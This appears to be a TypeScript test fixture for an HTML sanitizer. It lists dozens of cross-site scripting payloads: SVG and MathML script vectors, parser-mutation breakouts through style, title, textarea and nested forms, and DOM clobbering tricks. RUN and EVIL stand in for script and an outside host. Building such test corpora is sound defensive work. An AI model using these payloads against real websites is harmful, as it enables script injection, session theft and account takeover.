/** SVG, MathML, and HTML that is another thing when it is parsed again. */
import { attacks } from "./attack.ts";

const image = "<img src=x onerror=RUN>";

export const mutations = [
  ...attacks("svg", {
    onload: "<svg onload=RUN>",
    script: "<svg><script>RUN</script></svg>",
    "script with entities": "<svg><script>&#116;op.hostile=[1]</script></svg>",
    "script by href": '<svg><script href="EVIL"/></svg>',
    "animate begins": "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "animate makes a link":
      '<svg><a><animate attributeName=href values="javascript:RUN"/><text class=click y=20>x</text></a></svg>',
    "set makes a handler": '<svg><set attributeName="onmouseover" to="RUN"/></svg>',
    "use of elsewhere": '<svg><use href="EVIL#x"/></svg>',
    "use of data":
      '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSd0b3AuaG9zdGlsZT1bMV0nLz4=#x"/></svg>',
    "image of elsewhere": '<svg><image href="EVIL" width=9 height=9 /></svg>',
    "feImage of elsewhere":
      '<svg><filter id=f><feImage href="EVIL"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
    foreignObject: `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${image}</body></foreignObject></svg>`,
    style: `<svg><style>*{background:url("EVIL")}</style></svg>`,
    "style with an element": `<svg><style><img title="</style>${image}">`,
    "title ends it": `<svg><title><a title="</title>${image}">`,
    handler: '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler></svg>',
    discard: "<svg><discard onbegin=RUN>",
  }),
  ...attacks("mathml", {
    href: '<math href="javascript:RUN"><mi class=click>x</mi></math>',
    maction: '<math><maction actiontype="statusline#EVIL" xlink:href="javascript:RUN">x</maction></math>',
    annotation: `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
    background: '<math style="background:url(EVIL)"><mtext>x</mtext></math>',
  }),
  ...attacks("mutation", {
    "math in a table": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">`,
    "form in a form": `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    "noscript in a comment": `<noscript><style></noscript>${image}`,
    "svg, p, style": `<svg></p><style><a id="</style>${image}">`,
    "math, br, style": `<math></br><style><a title="</style>${image}">`,
    "desc and a": `<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>${image}">`,
    xmp: `<xmp><p title="</xmp>${image}">`,
    title: `<title><p title="</title>${image}">`,
    textarea: `<textarea><p title="</textarea>${image}">`,
    noembed: `<noembed><p title="</noembed>${image}">`,
    noframes: `<noframes><p title="</noframes>${image}">`,
    "iframe text": `<iframe><p title="</iframe>${image}">`,
    plaintext: `<plaintext><p title="${image}">`,
    listing: `<listing>&lt;img src=x onerror=RUN&gt;</listing>`,
    "option in select": `<select><option><style></option></select>${image}</style>`,
    "template in a template": `<template><template>${image}</template></template>`,
    "annotation and mglyph": `<math><annotation-xml encoding="text/html"><mglyph><svg><mtext><style><a title="</style>${image}">`,
    "deep nesting that flattens": `${"<div>".repeat(510)}<svg><style><!--</style>${image}-->`,
    "many forms that flatten": `${"<form><h1></form><table></h1>".repeat(256)}<svg></table><style><a id="</style>${image}">`,
    backticks: '<img alt="``onerror=RUN" src=x>',
    "a style in a style": `<style><style/><img src=x onerror=RUN></style>`,
    "a style that is cut": `<sty<style></style>le>*{background:url(EVIL)}</style>`,
    "a style in an attribute": `<p title="<style></p>${image}</style>">x</p>`,
    is: '<p is="x-evil" onclick=RUN>x</p>',
  }),
  ...attacks("clobbering", {
    "body and head": `<img name=body><img name=head><form id=documentElement><input name=style></form>`,
    getElementById: `<img name=getElementById><form name=querySelectorAll><input name=attributes></form>`,
    "attributes of a form": `<form onclick=RUN><input name=attributes><input name=nodeName><input name=parentNode></form>`,
    "a prototype": `<a id=__proto__ name=toString href="EVIL">x</a><img id=hostile>`,
    ownerDocument: `<form><img name=ownerDocument><img name=innerHTML><img name=childNodes></form>`,
  }),
];
